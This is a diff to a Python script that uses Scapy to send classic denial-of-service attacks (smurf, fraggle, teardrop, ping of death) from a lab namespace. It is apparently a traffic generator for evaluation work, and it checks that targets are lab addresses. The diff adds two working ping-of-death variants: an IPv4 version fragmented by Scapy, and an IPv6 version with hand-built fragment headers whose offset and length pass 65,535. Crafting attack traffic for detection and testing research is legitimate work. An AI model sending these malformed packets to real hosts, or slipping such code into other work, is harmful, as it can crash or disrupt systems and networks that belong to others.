@@ -2,9 +2,11 @@
 """Classic denial-of-service attacks (the DARPA 1998/99 evaluations' names), sent with Scapy
 from lab/classic.sh's attacker namespace, only to lab addresses (checked).
 
-    classic.py smurf|fraggle|teardrop|syndrop|nestea|pod IFACE
+    classic.py smurf|fraggle|teardrop|syndrop|nestea|pod|podx|pod6 IFACE
     environment: DST (the broadcast address, default 198.18.0.255), RATE (a second, 250),
-    COUNT (400), PORT (fraggle's, 7: echo; 19: chargen)
+    COUNT (400), PORT (fraggle's, 7: echo; 19: chargen); podx and pod6 (pings of death of
+    SIZE bytes of echo data, default 65,600, cut by Scapy or by hand; IPv6 to 2001:2::c612:a):
+    POD (datagrams, 3)
 """
 import sys, time
 from scapy.all import Ether, IP, ICMP, UDP, TCP, Raw, sendp, fragment, conf
@@ -51,5 +53,23 @@ elif kind == "pod":       # ping of death: fragments of an echo request longer t
         for f in frags + [last]:
             sendp(Ether() / f, iface=iface)
         time.sleep(0.2)
+elif kind == "podx":      # ping of death as scapy's fragment() cuts it: SIZE bytes of echo data
+    size = int(os.environ.get("SIZE", "65600"))
+    for i in range(int(os.environ.get("POD", "3"))):
+        for f in fragment(IP(dst=V, id=7000 + i) / ICMP(id=0x5151, seq=i) / Raw(b"X" * size), fragsize=1480):
+            sendp(Ether() / f, iface=iface)
+        time.sleep(0.5)
+elif kind == "pod6":      # IPv6 ping of death: fragments whose offset + length pass 65,535
+    from scapy.all import IPv6, IPv6ExtHdrFragment, ICMPv6EchoRequest
+    V6 = "2001:2::c612:a"
+    assert V6.startswith("2001:2::"), V6
+    for i in range(int(os.environ.get("POD", "3"))):
+        body = bytes(ICMPv6EchoRequest(id=0x6161, seq=i) / Raw(b"X" * int(os.environ.get("SIZE", "65600"))))
+        step = 1448
+        for off in range(0, len(body), step):
+            more = int(off + step < len(body))
+            f = IPv6(dst=V6, nh=44) / IPv6ExtHdrFragment(nh=58, offset=off // 8, m=more, id=9000 + i) / Raw(body[off:off + step])
+            sendp(Ether(dst="ff:ff:ff:ff:ff:ff") / f, iface=iface)  # no neighbour discovery per packet
+        time.sleep(0.5)
 else:
     sys.exit("unknown kind")
